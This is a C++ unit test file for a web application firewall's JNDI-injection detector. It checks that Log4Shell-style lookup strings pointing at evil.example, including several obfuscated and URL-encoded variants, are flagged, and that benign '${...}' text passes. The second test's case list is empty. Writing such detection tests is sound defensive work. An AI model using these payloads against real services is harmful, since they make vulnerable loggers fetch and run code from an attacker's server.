#include "waf_test_util.h"

namespace rampart::waf {
namespace {

using testing::Case;
using testing::verdict;

TEST(Jndi, AttacksAreFound) {
  const Case cases[] = {
      {"${jndi:ldap://evil.example/a}", "jndi: jndi lookup"},
      {"${${lower:j}ndi:ldap://evil.example/a}", "jndi: jndi lookup"},
      {"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", "jndi: jndi lookup"},
      {"${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", "jndi: jndi lookup"},
      {"%24%7Bjndi%3Adns%3A%2F%2Fx%7D", "jndi: jndi lookup"},
      {"${HOME}/bin", ""},
      {"costs ${amount}", ""},
  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

TEST(Jndi, LookAlikesPass) {
  const Case cases[] = {

  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

}  // namespace
}  // namespace rampart::waf
